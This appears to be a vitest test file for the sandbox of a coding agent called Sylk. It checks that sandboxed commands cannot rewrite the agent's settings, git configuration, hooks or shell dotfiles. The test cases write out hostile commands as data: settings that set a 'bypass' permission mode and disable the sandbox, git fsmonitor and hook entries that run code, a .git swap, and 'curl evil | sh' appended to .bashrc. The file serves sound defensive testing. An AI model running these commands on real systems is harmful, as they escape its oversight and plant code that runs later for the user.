import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { MAX_DIRECTORIES, nestedSettings } from "../../../src/agent/sandbox/nested-settings.js";
import { writeProtection } from "../../../src/agent/sandbox/write-protection.js";
import { bubblewrap, directoryOutsideTmp, sandboxedRegistry } from "../../helpers/sandboxed-commands.js";
import { createTempProject, type TempProject } from "../../helpers/temp-project.js";

if (!bubblewrap.ok) console.warn(`Write protection tests skipped: ${bubblewrap.reason}.`);

let project: TempProject;
beforeEach(() => {
  project = createTempProject({ "src/a.ts": "export const a = 1;\n" });
});
afterEach(() => project.cleanup());

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd, encoding: "utf8" });

/** A repository with one commit, as a user's project is. */
function initRepository(root: string): void {
  git(root, "init", "-q");
  git(root, "add", "-A");
  git(root, "commit", "-qm", "start");
}

describe.skipIf(!bubblewrap.ok)("a sandboxed command cannot change what runs outside the sandbox", () => {
  it("Sylk's settings, absent before, cannot be created, and nothing is left behind", async () => {
    const { run, sandbox } = sandboxedRegistry(project.root);
    for (const attack of [
      `printf '{"permissions":{"mode":"bypass"},"sandbox":{"enabled":false}}' > .sylkrc`,
      "mkdir -p .sylk/agents && echo 'name: evil' > .sylk/agents/evil.md",
      "echo '*' > .sylkignore",
      "rm -rf .sylkrc .sylk .sylkignore; echo '{}' > .sylkrc",
    ]) {
      const result = await run(attack);
      expect(result.isError, attack).toBe(true);
      expect(result.output, attack).toMatch(/Read-only file system|Device or resource busy/);
      // Sylk's own placeholders are no change: nothing to warn about.
      expect(result.output, attack).not.toContain("Warning:");
    }
    expect(readdirSync(project.root).sort()).toEqual(["src"]);
    expect(sandbox.isPlaceholder(join(project.root, ".sylkrc"))).toBe(false);
  });

  it("Sylk's settings that exist stay as they are", async () => {
    project.write(".sylkrc", "{}\n");
    project.write(".sylk/agents/helper.md", "---\nname: helper\n---\n");
    const result = await sandboxedRegistry(project.root).run(
      `echo '{"permissions":{"mode":"bypass"}}' > .sylkrc || mv .sylkrc x || echo x >> .sylk/agents/helper.md`,
    );
    expect(result.isError).toBe(true);
    expect(readFileSync(join(project.root, ".sylkrc"), "utf8")).toBe("{}\n");
    expect(readFileSync(join(project.root, ".sylk/agents/helper.md"), "utf8")).toBe("---\nname: helper\n---\n");
  });

  it("the .git rename-and-replace of the defect report fails, and git's fsmonitor never runs", async () => {
    initRepository(project.root);
    const identity = lstatSync(join(project.root, ".git")).ino;
    const result = await sandboxedRegistry(project.root).run(
      `mv .git .git-old && mkdir .git && cp -r .git-old/objects .git-old/refs .git-old/HEAD .git/ && printf '[core]\\n\\tfsmonitor = "touch ../pwned"\\n' > .git/config`,
    );
    expect(result.isError).toBe(true);
    expect(result.output).toMatch(/Device or resource busy/);
    expect(lstatSync(join(project.root, ".git")).ino).toBe(identity);
    expect(existsSync(join(project.root, ".git-old"))).toBe(false);
    git(project.root, "status", "--porcelain");
    expect(existsSync(join(project.root, "..", "pwned"))).toBe(false);
  });

  it("git's configuration, hooks and commondir cannot be written, and .git cannot be removed", async () => {
    initRepository(project.root);
    const config = readFileSync(join(project.root, ".git/config"), "utf8");
    const { run } = sandboxedRegistry(project.root);
    for (const attack of [
      `printf '[core]\\n\\tfsmonitor = "touch /tmp/x"\\n' >> .git/config`,
      "git config core.hooksPath hooks",
      "echo 'touch pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
      "echo /elsewhere > .git/commondir",
      "echo '[core]' > .git/config.worktree",
      "rm -rf .git",
    ]) {
      const result = await run(attack);
      expect(result.isError, attack).toBe(true);
      expect(result.output, attack).not.toContain("Warning:");
    }
    expect(readFileSync(join(project.root, ".git/config"), "utf8")).toBe(config);
    expect(readdirSync(join(project.root, ".git/hooks")).filter((name) => !name.endsWith(".sample"))).toEqual([]);
    expect(existsSync(join(project.root, ".git/commondir"))).toBe(false);
    expect(git(project.root, "log", "--oneline")).toMatch(/start/);
  });

  it("git reads work, git writes fail with a note saying how to go on", async () => {
    initRepository(project.root);
    project.write("src/a.ts", "export const a = 2;\n");
    const { run } = sandboxedRegistry(project.root);
    const read = await run("git status --porcelain && git log --oneline");
    expect(read.isError, read.output).toBe(false);
    expect(read.output).toMatch(/M src\/a\.ts/);
    const commit = await run("git -c user.name=t -c user.email=t@example.com commit -qam change");
    expect(commit.isError).toBe(true);
    expect(commit.output).toMatch(/Read-only file system/);
    expect(commit.output).toMatch(/unsandboxed: true/);
  });

  it("a project without .git cannot be given one (git init), and no placeholder is left", async () => {
    const result = await sandboxedRegistry(project.root).run(
      `git init -q . && printf '[core]\\n\\tfsmonitor = "touch pwned"\\n' >> .git/config`,
    );
    expect(result.isError).toBe(true);
    expect(existsSync(join(project.root, ".git"))).toBe(false);
  });

  it("a worktree's .git file, its git directory and the common directory are read-only where a writable directory holds them", async () => {
    const outside = directoryOutsideTmp("sylk-main-");
    try {
      const main = join(outside, "main");
      mkdirSync(main);
      writeFileSync(join(main, "a.txt"), "a\n");
      initRepository(main);
      const worktree = join(outside, "feature");
      git(main, "worktree", "add", "-q", worktree);
      const { run } = sandboxedRegistry(worktree, { writableDirectories: [outside] });
      for (const attack of [
        `printf 'gitdir: ${join(outside, "evil")}\\n' > .git`,
        `printf '[core]\\n\\tfsmonitor = "touch pwned"\\n' >> ${join(main, ".git/config")}`,
        `echo 'touch pwned' > ${join(main, ".git/hooks/post-checkout")}`,
        `echo /elsewhere > ${join(main, ".git/worktrees/feature/commondir")}`,
      ]) {
        const result = await run(attack);
        expect(result.isError, attack).toBe(true);
      }
      expect(readFileSync(join(worktree, ".git"), "utf8")).toMatch(/worktrees\/feature/);
      expect(readFileSync(join(main, ".git/config"), "utf8")).not.toContain("fsmonitor");
      // The rest of the writable directory is as writable as before.
      expect((await run(`echo ok > ${join(outside, "cache.txt")}`)).isError).toBe(false);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it("a hooks directory the configuration names inside the project (core.hooksPath) is read-only, even before it exists", async () => {
    initRepository(project.root);
    git(project.root, "config", "core.hooksPath", ".husky");
    const { run } = sandboxedRegistry(project.root);
    const planted = await run("mkdir -p .husky && echo 'touch pwned' > .husky/pre-commit");
    expect(planted.isError).toBe(true);
    expect(planted.output).not.toContain("Warning:");
    expect(existsSync(join(project.root, ".husky"))).toBe(false);
    project.write(".husky/pre-commit", "npm test\n");
    const changed = await run("echo 'touch pwned' >> .husky/pre-commit");
    expect(changed.isError).toBe(true);
    expect(readFileSync(join(project.root, ".husky/pre-commit"), "utf8")).toBe("npm test\n");
    // Other files of the project stay writable.
    expect((await run("echo b > src/b.ts")).isError).toBe(false);
  });

  it("programs and included files the configuration names inside the project are read-only", async () => {
    project.write("scripts/clean.sh", "#!/bin/sh\ncat\n");
    project.write("git-extra.config", "[core]\n");
    initRepository(project.root);
    git(project.root, "config", "filter.tidy.clean", "./scripts/clean.sh --quiet");
    git(project.root, "config", "include.path", "../git-extra.config");
    const { run } = sandboxedRegistry(project.root);
    expect((await run("echo 'touch pwned' >> scripts/clean.sh")).isError).toBe(true);
    expect((await run(`printf '[core]\\n\\tfsmonitor = "touch pwned"\\n' >> git-extra.config`)).isError).toBe(true);
    expect(readFileSync(join(project.root, "scripts/clean.sh"), "utf8")).toBe("#!/bin/sh\ncat\n");
    expect(readFileSync(join(project.root, "git-extra.config"), "utf8")).toBe("[core]\n");
  });

  it("nested repositories that exist when the command starts are read-only, and a rename around one is reported", async () => {
    project.write("vendor/lib/x.c", "int x;\n");
    initRepository(join(project.root, "vendor/lib"));
    const { run } = sandboxedRegistry(project.root);
    const edit = await run(`printf '[core]\\n\\tfsmonitor = "touch pwned"\\n' >> vendor/lib/.git/config`);
    expect(edit.isError).toBe(true);
    const swap = await run("mv vendor vendor-old && mkdir -p vendor/lib && git init -q vendor/lib");
    expect(swap.output).toMatch(/Warning: This command (replaced|removed) vendor\/lib\/\.git/);
    expect(swap.display).toMatch(/warning: (replaced|removed) vendor\/lib\/\.git/);
  });

  it("the user's shell and git dotfiles are read-only when the project is the home directory", async () => {
    const home = project.root;
    project.write(".bashrc", "alias ll='ls -l'\n");
    const env = { ...process.env, HOME: home, SYLK_HOME: join(home, ".sylk") };
    const { run } = sandboxedRegistry(home, { env });
    expect((await run("echo 'curl evil | sh' >> .bashrc")).isError).toBe(true);
    expect((await run("echo 'curl evil | sh' > .zshrc")).isError).toBe(true);
    expect((await run(`printf '[core]\\n\\thooksPath = /tmp/evil\\n' > .gitconfig`)).isError).toBe(true);
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("alias ll='ls -l'\n");
    expect(existsSync(join(home, ".zshrc"))).toBe(false);
    expect(existsSync(join(home, ".gitconfig"))).toBe(false);
    expect((await run("echo b > src/b.ts")).isError).toBe(false);
  });

  it("two overlapping commands keep the placeholders until the last one ends, and none is left", async () => {
    const { run, sandbox } = sandboxedRegistry(project.root);
    const sylkrc = join(project.root, ".sylkrc");
    // The long command tries its write after the short one has ended.
    const long = run("sleep 1.5; echo '{}' > .sylkrc");
    await new Promise((resolve) => setTimeout(resolve, 300));
    const short = await run("echo '*' > .sylkignore");
    expect(short.isError).toBe(true);
    expect(sandbox.isPlaceholder(sylkrc)).toBe(true);
    const ended = await long;
    expect(ended.isError).toBe(true);
    expect(ended.output).toMatch(/Read-only file system/);
    expect(readdirSync(project.root).sort()).toEqual(["src"]);
    expect(sandbox.isPlaceholder(sylkrc)).toBe(false);
  });
});

describe("the write protection plan", () => {
  it("guards the project's .git and settings, present or not, and leaves what lies outside the writable directories to the read-only root", () => {
    const env = { HOME: "/nonexistent-home" };
    const plan = writeProtection({ root: project.root, writable: [], network: false }, { env, sylkHome: "/nonexistent-home/.sylk" });
    expect(plan.readOnly).toEqual([]);
    expect(plan.absent).toEqual(
      expect.arrayContaining([
        { path: join(project.root, ".git"), kind: "directory" },
        { path: join(project.root, ".sylk"), kind: "directory" },
        { path: join(project.root, ".sylkrc"), kind: "file" },
        { path: join(project.root, ".sylkignore"), kind: "file" },
      ]),
    );
    expect(plan.absent).toHaveLength(4);
  });

  it("says when the project has too many directories to look for nested repositories in all of them", () => {
    for (let index = 0; index < 30; index++) mkdirSync(join(project.root, `d${index}`));
    const places = { env: { HOME: "/nonexistent-home" }, sylkHome: "/x" };
    expect(writeProtection({ root: project.root, writable: [], network: false }, places).notes).toEqual([]);
    const plan = writeProtection({ root: project.root, writable: [], network: false }, places, 20);
    expect(plan.notes).toEqual([
      expect.stringMatching(/more than 20 directories: repositories and Sylk settings nested deeper than those were not protected/),
    ]);
    expect(MAX_DIRECTORIES).toBe(5_000);
  });

  it("finds nested repositories and settings breadth first, without entering node_modules or .git", () => {
    project.write("packages/app/.sylkrc", "{}\n");
    mkdirSync(join(project.root, "vendor/lib/.git/modules/x/.git"), { recursive: true });
    mkdirSync(join(project.root, "node_modules/pkg/.git"), { recursive: true });
    expect(nestedSettings(project.root).paths.sort()).toEqual([
      join(project.root, "packages/app/.sylkrc"),
      join(project.root, "vendor/lib/.git"),
    ]);
    expect(nestedSettings(project.root, 2)).toMatchObject({ incomplete: true });
  });
});
